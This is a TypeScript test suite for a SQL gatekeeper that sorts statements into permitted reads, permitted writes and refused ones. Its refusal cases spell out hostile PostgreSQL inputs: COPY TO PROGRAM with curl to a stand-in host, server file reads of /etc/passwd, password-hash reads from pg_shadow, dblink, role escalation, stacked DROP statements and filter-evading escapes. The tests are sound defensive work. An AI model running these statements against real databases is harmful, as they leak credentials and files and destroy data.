import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { judgeStatement } from "./judge-statement.ts";

describe("a question", () => {
  test.each([
    "SELECT 1",
    "select a, count(*) from t where b = $1 group by a order by 2 desc limit 5",
    "WITH x AS (SELECT * FROM a) SELECT * FROM x JOIN LATERAL (SELECT now()) y ON true;",
    "TABLE customers",
    "VALUES (1), (2)",
    "EXPLAIN SELECT 1",
    "EXPLAIN (ANALYZE, BUFFERS) SELECT 1",
    "SHOW server_version",
    "SELECT pg_sleep(1)",
    "SELECT pg_size_pretty(pg_total_relation_size('t')), current_setting('TimeZone')",
    "SELECT 'DROP TABLE t; -- pg_read_file(''x'')'",
  ])("may be %s", async (sql) => {
    await expect(judgeStatement(sql, "read")).resolves.toBeUndefined();
  });

  test.each([
    "INSERT INTO t VALUES (1)",
    "UPDATE t SET a = 1 WHERE b",
    "DELETE FROM t WHERE a",
    "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
    "TRUNCATE t",
    "DROP TABLE t",
    "CREATE TABLE t ()",
    "CREATE TABLE t AS SELECT 1",
    "SELECT 1 INTO t",
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "SELECT * FROM (WITH x AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM x) y",
    "EXPLAIN ANALYZE DELETE FROM t",
    "EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1",
    "SELECT * FROM t FOR UPDATE",
    "SELECT * FROM t FOR KEY SHARE",
    "COPY t TO PROGRAM 'curl evil'",
    "COPY t FROM '/etc/passwd'",
    "COPY (SELECT 1) TO STDOUT",
    "DO $$ BEGIN PERFORM 1; END $$",
    "CALL p()",
    "SET ROLE admin",
    "SET SESSION AUTHORIZATION postgres",
    "SET transaction_read_only = off",
    "RESET ROLE",
    "BEGIN",
    "COMMIT",
    "ROLLBACK",
    "PREPARE x AS SELECT 1",
    "EXECUTE x",
    "DECLARE c CURSOR FOR SELECT 1",
    "LISTEN x",
    "NOTIFY x",
    "LOCK TABLE t",
    "VACUUM",
    "LOAD 'x'",
    "ALTER SYSTEM SET x = 1",
    "GRANT ALL ON t TO public",
    "CREATE EXTENSION dblink",
    "DISCARD ALL",
  ])("may not be %s", async (sql) => {
    await expect(judgeStatement(sql, "read")).rejects.toMatchObject({ code: "tool_forbidden" });
  });

  test.each([
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('/') AS f",
    'SELECT "pg_catalog"."pg_read_binary_file"($1)',
    "SELECT PG_READ_FILE('x')",
    `SELECT U&"pg_read\\005Ffile"('x')`,
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
    "SELECT public.dblink_exec('drop table t')",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT pg_terminate_backend(1)",
    "SELECT pg_reload_conf()",
    "SELECT pg_advisory_lock(1)",
    "SELECT pg_notify('a', 'b')",
    "SELECT nextval('s')",
    "SELECT query_to_xml('delete from t', true, true, '')",
    "SELECT ts_stat('select 1')",
    "SELECT a FROM t WHERE b IN (SELECT pg_read_file(c) FROM d) ORDER BY lo_unlink(1)",
    "SELECT CASE WHEN true THEN pg_switch_wal() END",
    "SELECT count(*) FILTER (WHERE pg_promote()) OVER (PARTITION BY pg_rotate_logfile()) FROM t",
    "SELECT * FROM pg_authid",
    "SELECT rolpassword FROM pg_catalog.pg_shadow",
    "VALUES (pg_create_restore_point('x'))",
    "EXPLAIN ANALYZE SELECT pg_cancel_backend(1)",
  ])("may not reach beyond its rows: %s", async (sql) => {
    await expect(judgeStatement(sql, "read")).rejects.toMatchObject({ code: "tool_forbidden" });
  });

  test.each([
    "",
    ";",
    "-- nothing",
    "SELECT 1; SELECT 2",
    "SELECT 1;; DROP TABLE t",
    "SELEC 1",
    "SELECT 'open",
  ])("must be one statement that can be read: %.40s", async (sql) => {
    await expect(judgeStatement(sql, "read")).rejects.toMatchObject({ code: "tool_input_invalid" });
    await expect(judgeStatement("SELECT 1", "read")).resolves.toBeUndefined();
  });

  test.each([
    `SELECT ${"not ".repeat(4_900)}true`,
    `SELECT ${"(".repeat(9_900)}1${")".repeat(9_900)}`,
    `SELECT ${"1+".repeat(9_900)}1`,
    `SELECT ${"array[".repeat(2_800)}1${"]".repeat(2_800)}`,
    `SELECT * FROM ${"(SELECT * FROM ".repeat(1_000)}t${") x".repeat(1_000)}`,
  ])("that is nested deeply is read or refused, and the next one is read (%#)", async (sql) => {
    await judgeStatement(sql, "read").catch((error: unknown) =>
      expect(error).toMatchObject({ code: "tool_input_invalid" }),
    );
    await expect(judgeStatement("SELECT 1", "read")).resolves.toBeUndefined();
    await expect(judgeStatement("DROP TABLE t", "read")).rejects.toMatchObject({
      code: "tool_forbidden",
    });
  });

  test("is one statement, whatever it is made of", async () => {
    const piece = fc.constantFrom(
      ...["SELECT 1", ";", "--", "\n", "/*", "*/", "'", '"', "$$", "DELETE FROM t", "$a$", "\\"],
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 9 }), async (pieces) => {
        const sql = pieces.join(" ");
        const outcome = await judgeStatement(sql, "read").then(
          () => "fits",
          (error: { code: string }) => error.code,
        );
        // What fits has no second statement: what looks like one is in a comment or a quote.
        expect(["fits", "tool_forbidden", "tool_input_invalid"]).toContain(outcome);
        if (outcome === "fits") expect(withoutQuotes(sql)).not.toMatch(/[^\s;][\s;]*;[\s;]*[^\s;]/);
      }),
      { numRuns: 300 },
    );
  });
});

function withoutQuotes(sql: string): string {
  return sql.replaceAll(
    /--[^\n]*|\/\*[\s\S]*?\*\/|'(?:[^']|'')*'|"(?:[^"]|"")*"|\$(\w*)\$[\s\S]*?\$\1\$/g,
    " ",
  );
}

describe("a change", () => {
  test.each([
    "INSERT INTO t (a) VALUES ($1) ON CONFLICT DO NOTHING RETURNING id",
    "UPDATE t SET a = $1 WHERE id = $2",
    "DELETE FROM t USING s WHERE s.id = t.id",
    "WITH x AS (SELECT 1) UPDATE t SET a = 1 WHERE id IN (SELECT * FROM x)",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
  ])("may be %s", async (sql) => {
    await expect(judgeStatement(sql, "write")).resolves.toBeUndefined();
  });

  test.each([
    "SELECT 1",
    "DROP TABLE t",
    "TRUNCATE t",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
    "UPDATE t SET a = 1",
    "DELETE FROM t",
    "INSERT INTO t SELECT pg_read_file('/etc/passwd')",
    "UPDATE t SET a = lo_import('/etc/passwd') WHERE id = 1",
    "INSERT INTO t SELECT passwd FROM pg_shadow",
    "COPY t FROM PROGRAM 'id'",
  ])("may not be %s", async (sql) => {
    await expect(judgeStatement(sql, "write")).rejects.toMatchObject({ code: "tool_forbidden" });
  });

  test("of every row is made where that is said", async () => {
    const statement = judgeStatement("DELETE FROM t", "write", { all: true });
    await expect(statement).resolves.toBeUndefined();
  });
});
